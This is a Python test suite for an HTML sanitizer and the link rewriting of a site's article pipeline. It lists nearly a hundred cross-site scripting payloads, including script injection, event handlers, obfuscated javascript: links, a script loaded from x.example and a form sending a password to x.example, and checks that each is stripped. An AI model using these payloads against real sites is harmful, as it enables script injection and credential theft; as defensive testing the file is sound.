"""Whatever a text carries, nothing in the page runs, loads, dresses up or takes over."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from bulletin.prose.link_targets import (
    make_absolute_resolver,
    make_relative_resolver,
    replace_targets,
)
from bulletin.prose.safe_html import sanitize
from tests.prose.setting import set_as_html
from tests.trying import try_examples

SITE = "https://a.example/"
TAGS = frozenset(
    "a abbr blockquote br caption cite code dd del details div dl dt em h2 h3 h4 h5 h6 hr ins kbd "
    "li mark ol p pre q s small span strong sub summary sup table tbody td tfoot th thead tr "
    "ul".split()
)
ATTRIBUTES = {
    "a": {"href", "class"},
    "details": {"open", "class"},
    "div": {"class"},
    "ol": {"start"},
    "p": {"class"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan", "scope"},
}
EVERYWHERE = {"id", "lang", "title"}
CLASSES = frozenset(
    "footnote-ref footnote-backref admonition admonition-title footnote abstract bug danger "
    "example failure info note question quote success tip warning".split()
)
# A browser drops these before it looks for a scheme.
IGNORED = re.compile(r"[\x00-\x20]")
# lxml cannot hold these at all.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def complaints(text: str) -> Iterator[str]:
    """Yield what a page may not hold of a piece of HTML, as a browser would read it."""
    fragment = html.fragment_fromstring(CONTROL.sub("", text), create_parent=True)
    for element in fragment.iterdescendants():
        tag = str(element.tag)
        if tag not in TAGS:
            yield f"<{tag}>"
            continue
        allowed = ATTRIBUTES.get(tag, set()) | EVERYWHERE
        for name, value in element.attrib.items():
            if name not in allowed:
                yield f"{name} of <{tag}>"
            elif name == "class" and not set(value.split()) <= CLASSES:
                yield f"class {value!r}"
            elif name == "id" and (value.startswith("_") or re.search(r"\s", value)):
                yield f"id {value!r}"
            elif name == "href":
                scheme = re.match(r"([a-zA-Z][\w+.-]*):", IGNORED.sub("", value))
                if scheme and scheme[1].lower() not in {"http", "https", "mailto", "tel"}:
                    yield f"link to {value!r}"


def everywhere(body: str) -> Iterator[tuple[str, str]]:
    """Yield a body's HTML as the story's page, a page at the root and the feeds carry it."""
    found = set_as_html(body)
    yield "page", replace_targets(found, make_relative_resolver("../.."))
    yield "root", replace_targets(found, make_relative_resolver("/"))
    yield (
        "feed",
        replace_targets(found, make_absolute_resolver(f"{SITE}dien-hinh/2026/bai-nay/", SITE)),
    )


# Each must leave nothing but words.
ATTACKS = [
    # Things that run
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "`<script>`<script>alert(1)</script>",
    # Event handlers
    "<p onclick=alert(1)>x</p>",
    "<p ONMOUSEOVER='alert(1)'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=# onfocus=alert(1) autofocus>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=x>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '| <p onclick="alert(1)">x</p> |\n|---|\n| <b onclick="alert(1)">y</b> |',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    "# <img src=x onerror=alert(1)>",
    "Câu[^1].\n\n[^1]: <img src=x onerror=alert(1)>",
    # Links that run
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/x)",
    "[x](//[)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <JAVASCRIPT:alert(1)>",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>",
    "<a href=java&Tab;script:alert(1)>x</a>",
    "<a href=java&NewLine;script:alert(1)>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='//['>x</a>",
    "<a href='https://a.example' href='javascript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href='javascript:alert(1)'><a href='javascript:alert(2)'>x</a></a>",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a](javascript:alert(1) 'x')",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1)\"onmouseover=\"alert(1))",
    # Things that load or embed
    "<iframe src=//x.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<base href=//x.example/>",
    "<img src=https://x.example/pixel.png>",
    "![x](https://x.example/pixel.png)",
    "<picture><source srcset=//x.example/a.png></picture>",
    "<audio src=//x.example/a.mp3></audio>",
    "<table background=//x.example/a.png><tr><td>x</td></tr></table>",
    "<blockquote cite=//x.example>x</blockquote>",
    "<a href=/rss/ ping=//x.example>x</a>",
    # Forms
    "<form action=//x.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select><option>x</option></select><textarea>x</textarea>",
    "<isindex action=javascript:alert(1)>",
    # EntryRenderer
    "<style>body{display:none}</style>",
    "<style>@import '//x.example/a.css';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='md-header bt-masthead'>x</div>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<font color=red>x</font>",
    # Names that take over
    "<p id=__config>{\"base\": \"//x.example\"}</p>",
    "<p id='__drawer'>x</p><p id='_noi-dung'>y</p>",
    "<a id=' __config'>x</a>",
    "<img name=cookie><form id=forms name=body></form>",
    "<a name=x href=/rss/>x</a>",
    "<p itemprop=x data-md-component=header role=alert aria-live=assertive tabindex=1>x</p>",
    # What never ends
    "<p><b><i><a href='/rss/",
    "<div><div><div>",
    "<!-- x",
    "<a href='/rss/' title=\"x",
    "</div></div></article></main>x",
    "<table><tr><td><table>",
    "<plaintext>x",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_it_is_left(attack: str) -> None:
    for body in (attack, f"Lời trước.\n\n{attack}\n\nLời sau.", f"- mục\n\n    {attack}"):
        for place, found in everywhere(body):
            assert list(complaints(found)) == [], (place, found)


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_stays_inside_its_box(attack: str) -> None:
    """Whatever it leaves open or closes, the page around it keeps its shape."""
    for _, found in everywhere(f"Lời trước.\n\n{attack}"):
        page = html.document_fromstring(f"<main><div id=hop>{found}</div><footer>x</footer></main>")
        (box,) = page.xpath("//div[@id='hop']")
        assert box.getparent().tag == "main"
        assert box.getnext().tag == "footer"


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_words_before_it_stay(attack: str) -> None:
    assert set_as_html(f"Lời trước.\n\n{attack}\n").startswith("<p>Lời trước.</p>")


# --- laws of `sanitize` -------------------------------------------------------------------------

WORDS = st.sampled_from(
    "a b p div table tr td li ul ol script style svg math iframe form input img details summary "
    "h1 h2 pre code template noscript select option title textarea xmp base meta href src onclick "
    "style class id __config javascript: data: http://a.example/ /rss/ #a fn:1 x đ".split()
)
PIECES = st.sampled_from(
    ["<", ">", "</", "/>", "=", '"', "'", "&", ";", "&#106;", "<!--", "-->", "<![CDATA[", "]]>",
     "<?", "`", " ", "\n", "\t", "\x00", "\x01"]
)  # fmt: skip
ELEMENTS = st.builds(
    lambda tag, name, value, inside: f"<{tag} {name}=\"{value}\">{inside}</{tag}>",
    WORDS, WORDS, WORDS, WORDS,
)  # fmt: skip
SOUP = st.lists(WORDS | PIECES | ELEMENTS, max_size=25).map("".join)


@try_examples(300)
@given(SOUP)
def test_nothing_outside_the_list_comes_through(soup: str) -> None:
    assert list(complaints(sanitize(soup))) == []


@try_examples(300)
@given(SOUP)
def test_what_is_clean_stays_as_it_is(soup: str) -> None:
    once = sanitize(soup)
    assert sanitize(once) == once


@try_examples(100)
@given(SOUP)
def test_any_text_can_be_set(soup: str) -> None:
    for _, found in everywhere(soup):
        assert list(complaints(found)) == []
